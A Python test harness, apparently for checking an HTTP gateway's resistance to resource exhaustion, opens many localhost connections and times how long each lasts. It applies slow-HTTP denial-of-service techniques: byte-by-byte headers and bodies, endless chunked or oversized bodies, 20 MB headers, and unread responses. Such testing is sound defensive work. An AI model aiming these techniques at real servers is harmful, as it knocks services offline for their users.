"""Ways to cost a server more than one is worth: slowly, without end, or by not listening.

All of them are tried by one process of its own, over plain sockets.
"""

import asyncio
import json
import os
import random
import resource
import socket
import time
from collections import defaultdict
from collections.abc import Awaitable, Callable, Mapping, Sequence
from contextlib import suppress
from dataclasses import dataclass, field

import uvloop

_STEP = 1.0
"""Seconds between two bytes of who goes byte by byte."""
WIDE, _LARGE = 16_384, 64
"""Width and number of the vectors of an answer that is not read: more than the kernel takes, and
little work to make."""
_ARRIVE = 2.0
"""Seconds in which all of them come."""
_HANGS = 60.0
"""Seconds after which an attacker is taken for one who is never sent away."""
_PAUSE = 0.01
"""Seconds between two pieces of what has no end: 3 MB a second."""
_HEAD = b"POST /v1/embeddings HTTP/1.1\r\nhost: x\r\ncontent-type: application/json\r\n"


class Guest:
    """One connection of somebody who means no good."""

    def __init__(self, port: int, *, small: bool = False) -> None:
        self._loop = asyncio.get_running_loop()
        self._port = port
        self._socket = socket.socket()
        self._socket.setblocking(False)
        if small:
            self._socket.setsockopt(socket.SOL_SOCKET, socket.SO_RCVBUF, 4096)

    async def come(self) -> None:
        """Connect."""
        await self._loop.sock_connect(self._socket, ("127.0.0.1", self._port))

    async def send(self, data: bytes) -> None:
        """Send all of it, if the gateway takes it; raises OSError when it has closed."""
        await self._loop.sock_sendall(self._socket, data)

    async def drip(self, data: bytes) -> None:
        """Send a byte a second until the gateway closes."""
        async with asyncio.TaskGroup() as group:
            dripping = group.create_task(self._drip(data))
            await self.closed()
            dripping.cancel()

    async def closed(self) -> None:
        """Read on until the gateway closes."""
        with suppress(OSError):
            while await self._loop.sock_recv(self._socket, 65536):
                pass

    async def reset(self) -> None:
        """Wait until the gateway closes, and read nothing."""
        # Whether a socket that is not read is closed at the other end, only its state tells.
        while _is_open(self._socket):
            await asyncio.sleep(0.1)

    def leave(self) -> None:
        """Close."""
        self._socket.close()

    async def _drip(self, data: bytes) -> None:
        with suppress(OSError):
            for byte in data:
                await self.send(bytes([byte]))
                await asyncio.sleep(_STEP)


def _is_open(connection: socket.socket) -> bool:
    established = 1
    if connection.getsockopt(socket.SOL_SOCKET, socket.SO_ERROR):
        return False
    info = connection.getsockopt(socket.IPPROTO_TCP, socket.TCP_INFO, 1)
    return info[0] == established


async def _silent(guest: Guest) -> None:
    await guest.closed()


async def _slow_head(guest: Guest) -> None:
    await guest.drip(_HEAD + b"x-a: " + b"b" * 1000)


async def _slow_next_head(guest: Guest) -> None:
    await guest.send(b"GET /health/live HTTP/1.1\r\nhost: x\r\n\r\n")
    await guest.drip(_HEAD + b"x-a: " + b"b" * 1000)


async def _slow_body(guest: Guest) -> None:
    await guest.send(_HEAD + b"content-length: 5000\r\n\r\n")
    await guest.drip(b'{"model":"m","input":"' + b"x" * 1000)


async def _slow_chunks(guest: Guest) -> None:
    await guest.send(_HEAD + b"transfer-encoding: chunked\r\n\r\n")
    await guest.drip(b"1\r\n{\r\n" * 300)


async def _slow_extension(guest: Guest) -> None:
    await guest.send(_HEAD + b"transfer-encoding: chunked\r\n\r\n1;")
    await guest.drip(b"a" * 1000)


async def _large_head(guest: Guest) -> None:
    with suppress(OSError):
        await guest.send(_HEAD)
        for number in range(20 * 16):
            await guest.send(b"x-%d: " % number + b"a" * 65_500 + b"\r\n")
    await guest.closed()


async def _endless_chunks(guest: Guest) -> None:
    with suppress(OSError):
        await guest.send(_HEAD + b"transfer-encoding: chunked\r\n\r\n")
        while True:
            await guest.send(b"8000\r\n" + b"x" * 0x8000 + b"\r\n")
            await asyncio.sleep(_PAUSE)
    await guest.closed()


async def _endless_length(guest: Guest) -> None:
    with suppress(OSError):
        await guest.send(_HEAD + b"content-length: 999999999999\r\n\r\n")
        while True:
            await guest.send(b"x" * 0x8000)
            await asyncio.sleep(5 * _PAUSE)
    await guest.closed()


async def _unread(guest: Guest) -> None:
    asked = {"model": "wide", "input": large_texts(), "encoding_format": "base64"}
    body = json.dumps(asked).encode()
    request = _HEAD + b"content-length: %d\r\n\r\n" % len(body) + body
    with suppress(OSError):
        await guest.send(request)
    await guest.reset()


def large_texts() -> list[str]:
    """Return the texts of an answer that is not read."""
    return [f"large {number}" for number in range(_LARGE)]


Way = Callable[[Guest], Awaitable[None]]
WAYS: Mapping[str, Way] = {
    "silent": _silent,
    "head, byte by byte": _slow_head,
    "second head, byte by byte": _slow_next_head,
    "body, byte by byte": _slow_body,
    "chunks, byte by byte": _slow_chunks,
    "chunk extension, byte by byte": _slow_extension,
    "20 MB of head": _large_head,
    "endless chunks": _endless_chunks,
    "endless body, announced": _endless_length,
    "answer unread": _unread,
}
_SMALL = {"answer unread"}
_FEW = {"20 MB of head", "endless chunks", "endless body, announced", "answer unread"}
"""Of which there is one for every fifteen of the others: they are a matter of bandwidth."""


@dataclass
class Attack:
    """All who mean no good."""

    port: int
    lasted: dict[str, list[float]] = field(default_factory=lambda: defaultdict(list))

    async def run(self, attackers: int, seconds: float, ways: Sequence[str]) -> None:
        """Let so many of them be there at a time; none comes any more after so many seconds."""
        until = time.monotonic() + seconds
        mix = [name for name in ways for _ in range(1 if name in _FEW else 15)]
        random.Random(1).shuffle(mix)
        mix = [*ways, *mix]  # of a few, each is one
        async with asyncio.TaskGroup() as group:
            for number in range(attackers):
                group.create_task(self._again(mix[number % len(mix)], until))
                await asyncio.sleep(min(_ARRIVE, seconds / 4) / attackers)

    async def _again(self, name: str, until: float) -> None:
        while time.monotonic() < until:
            guest = Guest(self.port, small=name in _SMALL)
            try:
                await guest.come()
                came = time.monotonic()
                with suppress(OSError, TimeoutError):
                    async with asyncio.timeout(_HANGS):
                        await WAYS[name](guest)
                self.lasted[name].append(time.monotonic() - came)
            finally:
                guest.leave()
            await asyncio.sleep(0.5)  # comes again, and not a thousand times a second


def attack(
    port: int, attackers: int, seconds: float, ways: Sequence[str]
) -> dict[str, list[float]]:
    """Attack for so long; return how long each connection lasted, by its way."""
    os.nice(10)  # a hundred machines would not take the gateway's time
    raise_open_files()
    attacking = Attack(port)
    uvloop.run(attacking.run(attackers, seconds, ways))
    return dict(attacking.lasted)


def raise_open_files() -> None:
    """Let this process have as many connections as the system allows."""
    _, hard = resource.getrlimit(resource.RLIMIT_NOFILE)
    resource.setrlimit(resource.RLIMIT_NOFILE, (hard, hard))
